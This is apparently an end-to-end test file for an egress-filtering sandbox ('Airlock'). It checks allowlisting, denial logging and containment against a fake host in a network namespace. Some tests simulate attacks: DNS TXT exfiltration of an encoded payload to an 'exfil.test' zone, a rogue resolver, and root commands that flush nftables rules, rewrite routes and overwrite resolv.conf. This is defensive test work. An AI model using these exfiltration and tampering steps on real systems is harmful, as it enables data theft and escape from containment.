// End-to-end egress tests with real namespaces, veths, nftables and processes. The only "outside" is
// a fake host in a namespace this file creates; no packet is addressed anywhere else.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import net from 'node:net';
import dgram from 'node:dgram';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { Resolver } from 'node:dns/promises';
import { createFakeHost, inNetns, runProbe, type FakeHost } from './fakehost.js';
import { cleanupEgressLeftovers, egressConfigSchema, egressDenialCount, prepareEgress, type EgressConfig, type EgressEvent } from '../../src/egress/index.js';
import { runNft } from '../../src/egress/nft.js';

const exec = promisify(execFile);
const API = 'api.example.test';
const OTHER = 'other.example.test';
const DB = 'db.example.test';
const LOOP = 'loop.example.test';
const POOL = 'pool.example.test';
const SERVER = `egress-test-${process.pid}`;

let fake: FakeHost;
let config: EgressConfig;
let events: EgressEvent[] = [];
let egress: Awaited<ReturnType<typeof prepareEgress>>;
let probeEnv: Record<string, string>;
let hostService: net.Server;
let hostServicePort: number;
let loopService: net.Server;
let loopServicePort: number;

const setPolicy = (allow: string[]): void => {
  config = egressConfigSchema.parse({
    allow,
    resolve: { [API]: fake.ip, [OTHER]: fake.ip, [DB]: fake.ip, [LOOP]: '127.0.0.1' },
    allowPrivate: [`${fake.ip}/32`],
  });
};

const probe = (ops: object[]) => runProbe(egress.netnsName, ops, probeEnv);
const probeNoProxy = (ops: object[]) =>
  runProbe(egress.netnsName, ops, { PROBE_CA: fake.certPath, NODE_EXTRA_CA_CERTS: fake.certPath });

const eventsFor = (name: string) => events.filter((e) => e.name === name);

function tcpFromHost(host: string, port: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const s = net.connect({ host, port });
    s.once('connect', () => s.write('ping'));
    s.once('data', (d) => {
      resolve(d.toString());
      s.destroy();
    });
    s.once('error', reject);
    setTimeout(() => reject(new Error('timeout')), 2000);
  });
}

before(async () => {
  fake = await createFakeHost([API, OTHER]);
  hostService = net.createServer((c) => {
    c.on('error', () => {});
    c.end('host-secret');
  });
  await new Promise<void>((r) => hostService.listen(0, '0.0.0.0', r));
  hostServicePort = (hostService.address() as net.AddressInfo).port;
  loopService = net.createServer((c) => {
    c.on('error', () => {});
    c.end('loopback-secret');
  });
  await new Promise<void>((r) => loopService.listen(0, '127.0.0.1', r));
  loopServicePort = (loopService.address() as net.AddressInfo).port;
  setPolicy([API, `${DB}:5432`, `${LOOP}:${loopServicePort}`]);
  egress = await prepareEgress({
    server: SERVER,
    session: 's-1',
    policyGetter: () => config,
    onEvent: (e) => events.push(e),
  });
  probeEnv = { ...egress.env, PROBE_CA: fake.certPath, NODE_EXTRA_CA_CERTS: fake.certPath };
});

after(async () => {
  await egress?.close();
  await fake?.close();
  hostService?.close();
  loopService?.close();
});

describe('controls: the fake host and host services are really reachable from the host', () => {
  test('TCP, UDP, IPv6 and the rogue DNS of the fake host answer the host', async () => {
    assert.equal(await tcpFromHost(fake.ip, 9000), 'ping');
    const v6 = await new Promise<string>((resolve, reject) => {
      const s = net.connect({ host: fake.ip6, port: 80 });
      s.once('connect', () => s.write('GET / HTTP/1.1\r\nHost: v6\r\nConnection: close\r\n\r\n'));
      let d = '';
      s.on('data', (c) => (d += c));
      s.once('end', () => resolve(d));
      s.once('error', reject);
    });
    assert.match(v6, /^HTTP\/1\.1 200/);
    const u = dgram.createSocket('udp4');
    const echoed = await new Promise<string>((resolve, reject) => {
      u.once('message', (m) => resolve(m.toString()));
      u.send('ping', 9999, fake.ip);
      setTimeout(() => reject(new Error('no udp echo')), 2000);
    });
    u.close();
    assert.equal(echoed, 'ping');
    const r = new Resolver({ timeout: 1500, tries: 1 });
    r.setServers([fake.ip]);
    assert.deepEqual(await r.resolve4('anything.exfil.test'), [fake.ip], 'rogue resolver answers everything');
  });
});

describe('sandbox namespace', () => {
  test('allowlisted name over HTTP and HTTPS through the proxy variables succeeds', async () => {
    const [h, s] = await probe([
      { op: 'httpProxy', url: `http://${API}/hello` },
      { op: 'httpsProxy', host: API, port: 443 },
    ]);
    assert.equal(h.ok, true, JSON.stringify(h));
    assert.equal(h.status, 200);
    assert.match(h.body ?? '', /^fakehost api\.example\.test GET \/hello/);
    assert.equal(s.ok, true, JSON.stringify(s));
    assert.equal(s.status, 200);
    assert.match(s.body ?? '', /^fakehost api\.example\.test GET \//);
    const ev = eventsFor(API);
    assert.ok(ev.some((e) => e.kind === 'http' && e.decision === 'allow' && e.ip === fake.ip && e.port === 80));
    assert.ok(ev.some((e) => e.kind === 'connect' && e.decision === 'allow' && e.ip === fake.ip && e.port === 443));
    assert.ok(ev.every((e) => e.server === SERVER && e.session === 's-1'));
  });

  test('a client that ignores the proxy variables (Node 20 fetch) is policed transparently', async () => {
    const before = events.length;
    const [h, s] = await probeNoProxy([
      { op: 'fetch', url: `http://${API}/plain` },
      { op: 'fetch', url: `https://${API}/tls` },
    ]);
    assert.equal(h.ok, true, JSON.stringify(h));
    assert.match(h.body ?? '', /^fakehost api\.example\.test GET \/plain/);
    assert.equal(s.ok, true, JSON.stringify(s));
    assert.match(s.body ?? '', /^fakehost api\.example\.test GET \/tls/);
    const ev = events.slice(before);
    assert.ok(ev.some((e) => e.kind === 'dns' && e.name === API && e.decision === 'allow' && e.ip === fake.ip));
    assert.ok(ev.some((e) => e.kind === 'http' && e.name === API && e.decision === 'allow'));
    assert.ok(ev.some((e) => e.kind === 'tls' && e.name === API && e.decision === 'allow' && e.port === 443));
  });

  test('a non-allowlisted name is denied on every path and logged', async () => {
    const denialsBefore = egressDenialCount(SERVER);
    const [viaProxy, viaConnect, viaFetch, lookup] = await probeNoProxy([
      { op: 'fetch', url: `http://${OTHER}/` },
      { op: 'fetch', url: `https://${OTHER}/` },
      { op: 'tlsDirect', ip: fake.ip, servername: OTHER },
      { op: 'lookup', name: OTHER },
    ]);
    assert.equal(viaProxy.ok, false, 'DNS does not resolve it');
    assert.equal(viaConnect.ok, false);
    assert.equal(viaFetch.ok, false, 'SNI naming a non-allowlisted host is cut');
    assert.equal(lookup.ok, false);
    assert.equal(lookup.code, 'ENOTFOUND');
    const [p1, p2] = await probe([
      { op: 'httpProxy', url: `http://${OTHER}/` },
      { op: 'httpsProxy', host: OTHER, port: 443 },
    ]);
    assert.deepEqual([p1.status, p1.reason], [403, 'denied; reason=not-allowlisted']);
    assert.deepEqual([p2.status, p2.reason], [403, 'denied; reason=not-allowlisted']);
    const ev = eventsFor(OTHER);
    for (const kind of ['dns', 'tls', 'http', 'connect']) {
      assert.ok(ev.some((e) => e.kind === kind && e.decision === 'deny'), `deny event of kind ${kind}`);
    }
    assert.ok(egressDenialCount(SERVER) >= denialsBefore + 5);
  });

  test('raw IP connects to the fake host fail (no forwarding; Host/SNI must be an allowed name)', async () => {
    const [tcp, http80, noSni] = await probeNoProxy([
      { op: 'tcp', host: fake.ip, port: 9000 },
      { op: 'fetch', url: `http://${fake.ip}/` },
      { op: 'tlsDirect', ip: fake.ip, servername: '' },
    ]);
    assert.equal(tcp.ok, false, JSON.stringify(tcp));
    assert.equal(http80.ok, true);
    assert.deepEqual([http80.status, http80.reason], [403, 'denied; reason=not-a-name']);
    assert.equal(noSni.ok, false);
  });

  test('DNS TXT exfiltration to a non-allowlisted zone is refused and the payload is not logged', async () => {
    const payload = 'mzxw6ytboi2gk3tfmvzxg4tfmnzgk5dtnfxgo3lbnvsxg'; // base32 "secret…" look-alike
    const before = events.length;
    const [txt, txtRogue, aLong] = await probe([
      { op: 'dns', type: 'TXT', name: `${payload}.exfil.test` },
      { op: 'dns', type: 'TXT', name: `${payload}.exfil.test`, server: fake.ip },
      { op: 'dns', type: 'A', name: `${payload}.exfil.test` },
    ]);
    assert.equal(txt.ok, false);
    assert.equal(txt.code, 'EREFUSED');
    assert.equal(txtRogue.code, 'EREFUSED', 'a resolver the sandbox picks itself is Airlock\'s too');
    assert.equal(aLong.code, 'EREFUSED');
    const ev = events.slice(before).filter((e) => e.kind === 'dns');
    assert.equal(ev.length, 3);
    assert.ok(ev.every((e) => e.decision === 'deny' && e.reason === 'tunnel-suspect'));
    assert.ok(ev.every((e) => !e.name.includes(payload)), 'the encoded label never reaches the audit log');
    assert.match(ev[0].name, /^\[len=\d+ sha256=[0-9a-f]{16}\]\.exfil\.test$/);
  });

  test('IPv6 and UDP do not leave the namespace, even after the sandbox re-enables IPv6 as root', async () => {
    const [v6, udp] = await probe([
      { op: 'tcp', host: fake.ip6, port: 80, family: 6 },
      { op: 'udp', host: fake.ip, port: 9999 },
    ]);
    assert.equal(v6.ok, false);
    assert.equal(udp.ok, false);
    await inNetns(
      egress.netnsName,
      `sysctl -qw net.ipv6.conf.all.disable_ipv6=0 net.ipv6.conf.eth0.disable_ipv6=0 && ip -6 addr add ${fake.ip6.replace(/::2$/, '::3')}/64 dev eth0 nodad && ip -6 route add default dev eth0 || true`,
    );
    const [v6b] = await probe([{ op: 'tcp', host: fake.ip6, port: 80, family: 6 }]);
    assert.equal(v6b.ok, false, JSON.stringify(v6b));
  });

  test('a port not on the list is denied; a listed non-HTTP port is relayed after DNS', async () => {
    const before = events.length;
    const [other, lookup, db, dbOtherPort] = await probe([
      { op: 'httpsProxy', host: API, port: 9000 },
      { op: 'lookup', name: DB },
      { op: 'tcp', host: fake.ip, port: 5432 },
      { op: 'tcp', host: fake.ip, port: 9000 },
    ]);
    assert.deepEqual([other.status, other.reason], [403, 'denied; reason=not-allowlisted']);
    assert.deepEqual(lookup.addresses, [fake.ip]);
    assert.equal(db.ok, true, JSON.stringify(db));
    assert.equal(db.echoed, 'ping');
    assert.equal(dbOtherPort.ok, false);
    const ev = events.slice(before);
    assert.ok(ev.some((e) => e.kind === 'tcp' && e.name === DB && e.port === 5432 && e.ip === fake.ip && e.decision === 'allow'));
    const map = await runNft('', ['list', 'map', 'inet', 'airlock', `sb_${egress.netnsName.slice(6)}_tcp`]);
    assert.match(map, new RegExp(`${fake.ip.replace(/\./g, '\\.')} \\. 5432 timeout 30s expires`));
  });

  test('host services are unreachable: veth address, other host addresses, and names resolving to loopback', async () => {
    const [veth, otherHostAddr, loopName, loopLocal] = await probe([
      { op: 'tcp', host: egress.hostAddress, port: hostServicePort },
      { op: 'tcp', host: fake.hostSideIp, port: hostServicePort },
      { op: 'httpsProxy', host: LOOP, port: loopServicePort },
      { op: 'tcp', host: '127.0.0.1', port: loopServicePort },
    ]);
    assert.equal(veth.ok, false, JSON.stringify(veth));
    assert.equal(otherHostAddr.ok, false, JSON.stringify(otherHostAddr));
    assert.deepEqual([loopName.status, loopName.reason], [403, 'denied; reason=loopback-address']);
    assert.equal(loopLocal.ok, false, 'the namespace has its own loopback');
    // A broad allowPrivate grant that covers the veth address still does not open the host through the proxy.
    config = egressConfigSchema.parse({
      allow: [`${POOL}:${hostServicePort}`],
      resolve: { [POOL]: egress.hostAddress },
      allowPrivate: ['10.0.0.0/8'],
    });
    try {
      const [viaPool] = await probe([{ op: 'httpsProxy', host: POOL, port: hostServicePort }]);
      assert.deepEqual([viaPool.status, viaPool.reason], [403, 'denied; reason=airlock-internal-address']);
    } finally {
      setPolicy([API, `${DB}:5432`, `${LOOP}:${loopServicePort}`]);
    }
    // Control: the same services answer from the host.
    assert.equal(await tcpFromHost(egress.hostAddress, hostServicePort).catch((e) => String(e)), 'host-secret');
    assert.equal(await tcpFromHost('127.0.0.1', loopServicePort), 'loopback-secret');
  });

  test('a root process that rewrites its routes, nft rules and resolv.conf is still contained', async () => {
    await inNetns(
      egress.netnsName,
      `nft flush ruleset; ip route replace ${fake.ip}/32 via ${egress.hostAddress} dev eth0; ip route add ${fake.hostSideIp}/32 dev eth0 || true`,
    );
    // ip netns exec bind-mounts /etc/netns/<ns>/resolv.conf; the sandbox points it at the rogue resolver.
    const original = await inNetns(egress.netnsName, 'cat /etc/resolv.conf');
    await inNetns(egress.netnsName, `echo "nameserver ${fake.ip}" > /etc/resolv.conf`);
    try {
      const [tcp, dnsRogue, lookup, stillOk] = await probeNoProxy([
        { op: 'tcp', host: fake.ip, port: 9000 },
        { op: 'dns', type: 'A', name: 'anything.exfil.test' },
        { op: 'lookup', name: OTHER },
        { op: 'fetch', url: `https://${API}/after-tamper` },
      ]);
      assert.equal(tcp.ok, false);
      assert.equal(dnsRogue.ok, false, 'the rogue resolver would have answered; Airlock answers NXDOMAIN');
      assert.equal(dnsRogue.code, 'ENOTFOUND');
      assert.equal(lookup.ok, false);
      assert.equal(stillOk.ok, true, JSON.stringify(stillOk));
    } finally {
      await inNetns(egress.netnsName, `printf '%s\\n' "${original.trim().split('\n').join('" "')}" > /etc/resolv.conf`);
    }
  });

  test('a policy change applies to new connections without a restart', async () => {
    setPolicy([OTHER]);
    try {
      const [apiNow, otherNow] = await probeNoProxy([
        { op: 'fetch', url: `http://${API}/` },
        { op: 'fetch', url: `https://${OTHER}/` },
      ]);
      assert.equal(apiNow.ok, false, 'API is no longer resolvable');
      assert.equal(otherNow.ok, true, JSON.stringify(otherNow));
      const [proxyApi] = await probe([{ op: 'httpProxy', url: `http://${API}/` }]);
      assert.deepEqual([proxyApi.status, proxyApi.reason], [403, 'denied; reason=not-allowlisted']);
    } finally {
      setPolicy([API, `${DB}:5432`, `${LOOP}:${loopServicePort}`]);
    }
  });
});

describe('lifecycle', () => {
  const present = async (id: string): Promise<string[]> => {
    const found: string[] = [];
    if ((await exec('ip', ['netns', 'list'])).stdout.includes(`alk-s-${id}`)) found.push('netns');
    if ((await exec('ip', ['-o', 'link', 'show'])).stdout.includes(`alkh${id}`)) found.push('veth');
    if ((await runNft('', ['list', 'table', 'inet', 'airlock']).catch(() => '')).includes(`sb_${id}_`)) found.push('nft');
    return found;
  };

  test('close() leaves no namespace, veth or rule behind, and is idempotent', async () => {
    const e = await prepareEgress({ server: 'lifecycle', session: 's', policyGetter: () => config, onEvent: () => {} });
    const id = e.netnsName.slice('alk-s-'.length);
    assert.deepEqual(await present(id), ['netns', 'veth', 'nft']);
    await e.close();
    await e.close();
    assert.deepEqual(await present(id), []);
  });

  test('leftovers of a killed Airlock are removed by cleanupEgressLeftovers', async () => {
    const e = await prepareEgress({ server: 'leftover', session: 's', policyGetter: () => config, onEvent: () => {} });
    const id = e.netnsName.slice('alk-s-'.length);
    const removed = await cleanupEgressLeftovers((x) => x === id);
    assert.deepEqual(removed, [id]);
    assert.deepEqual(await present(id), []);
    await e.close();
  });
});
